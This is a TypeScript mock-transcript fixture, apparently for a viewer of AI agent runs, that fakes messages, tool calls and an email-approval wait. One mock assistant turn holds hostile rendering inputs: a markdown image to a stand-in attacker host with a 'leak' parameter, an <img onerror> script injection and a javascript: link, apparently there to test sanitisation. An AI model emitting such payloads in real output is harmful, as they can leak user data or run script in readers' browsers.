import type { Answer } from "../src/api/client.ts";
import { callId, iso, MOCK_RUN, mockCalls, OWNERS, STEP } from "./mock-run.ts";

const LONG_TEXT = `The site has three parts:

1. **Opening hours**, which differ between seasons
2. Prices, see [the price list](https://museum.example/prices) and ![the plan](https://evil.example/x.png?leak=1)
3. The two exhibitions of spring

| exhibition | from | to |
| --- | --- | --- |
| Light | 1 March | 30 April |
| \`Clay\` | 12 March | 2 June |

<img src=x onerror="window.pwned=1"> [click](javascript:alert(1))

\`\`\`json
{ "hours": "10-17" }
\`\`\``;

type Item = Answer<"getTranscript">["items"][number];

function mockItems(zero: number): readonly Item[] {
  let seq = 0;
  const made = (kind: Item["kind"], at: number, data: Item["data"], place: Partial<Item> = {}): Item => ({
    id: `${++seq}.1`,
    kind,
    at: iso(zero + at),
    seq,
    step: STEP,
    turn: null,
    isAbandoned: false,
    data,
    ...place,
  });
  const text = (words: string) => ({ text: words, characters: words.length });
  const whole = (value: unknown) => ({ kind: "whole", value }) as Item["data"];
  const calls = mockCalls(zero);
  const shownCall = (turn: number): Item["data"] => {
    const call = calls.find(({ turnIndex }) => turnIndex === turn);
    if (call === undefined) return null;
    const { receipt, toolCallId, tool, effect, recovery, status, attempt, request } = call;
    const result =
      receipt === null
        ? null
        : {
            source: receipt.source,
            errorCode: receipt.errorCode,
            uncertain: false,
            duplicateOf: receipt.duplicateOf,
            type: "json",
            value: receipt.blob === null ? whole(receipt.output) : { kind: "blob", ...receipt.blob },
          };
    return {
      toolCallId,
      namespace: "",
      tool,
      effect,
      recovery,
      status,
      attempt,
      request: whole(request),
      result,
    };
  };
  const turn = (index: number, at: number, words: string, isAbandoned = false): Item =>
    made(
      "assistant",
      at,
      {
        parts: [
          ...(index % 4 === 0
            ? [{ kind: "reasoning", text: text("The price list may be old; I will look for its date.") }]
            : []),
          { kind: "text", text: text(words) },
          { kind: "call", call: shownCall(index) },
        ] as Item["data"],
      },
      { turn: index, isAbandoned },
    );
  return [
    made("life", 0, {
      number: 1,
      owner: OWNERS[0] ?? "",
      resumedFrom: null,
      reason: null,
      afterDeath: false,
    }),
    made("step", 200, { what: "begun", stepKind: "agent", phase: "main", value: null }),
    made("user", 300, {
      messageNo: 1,
      sentBy: "ana",
      mode: null,
      text: text(
        "Write a report about the museum's site and send it to the curator.\n\nUse the **new** price list.",
      ),
      files: [{ name: "brief.pdf", mediaType: "application/pdf", size: 48_200, hash: "b-brief" }],
    }),
    turn(1, 9_000, "I will begin with the home page."),
    turn(
      2,
      20_000,
      "The home page links to eleven others. The interesting ones are *hours*, *prices* and *exhibitions*.",
    ),
    turn(3, 31_000, "Now the prices."),
    turn(4, 40_000, LONG_TEXT),
    turn(5, 52_000, "Reading the archive.", true),
    made("lineage", 84_000, { firstTurn: 6, baseTurn: 4 }),
    made("life", 83_000, {
      number: 2,
      owner: OWNERS[1] ?? "",
      resumedFrom: "turn",
      reason: null,
      afterDeath: true,
    }),
    turn(6, 90_000, "The archive has nothing of this year. I continue with the exhibitions."),
    turn(7, 101_000, "Two exhibitions open in spring."),
    turn(8, 120_000, "The draft is complete; I check the names once more."),
    turn(9, 139_000, "The report is complete. I will send it to the curator."),
    made("wait", 140_000, {
      waitId: `${MOCK_RUN}~1`,
      toolCallId: callId(9, 1),
      question: "May send_email run, to anna@museum.example?",
      status: "answered",
      matches: null,
      waitKind: "approval",
      dueAt: null,
    }),
    made("answer", 1_001_000, {
      waitId: `${MOCK_RUN}~1`,
      toolCallId: callId(9, 1),
      by: ["ana"],
      answer: { approved: true },
    }),
    made("life", 1_010_000, {
      number: 3,
      owner: OWNERS[2] ?? "",
      resumedFrom: "turn",
      reason: null,
      afterDeath: false,
    }),
    ...[10, 11, 12, 13].map((index) =>
      turn(index, 1_000_000 + index * 5_000, `Looking at page ${index} of the press room.`),
    ),
    made("artifact", 1_060_000, { name: "report.md", size: 12_400 }),
    turn(14, 1_070_000, "I send the second mail, to the press office."),
  ];
}

export function mockTranscript(zero: number, query: URLSearchParams): Answer<"getTranscript"> {
  const all = mockItems(zero);
  const before = Number(query.get("before") ?? all.length);
  const limit = Math.min(8, Number(query.get("limit") ?? 50));
  const from = Math.max(0, before - limit);
  return {
    items: all.slice(from, before),
    before: from === 0 ? null : String(from),
    after: String(before),
    isNewest: before === all.length,
  };
}
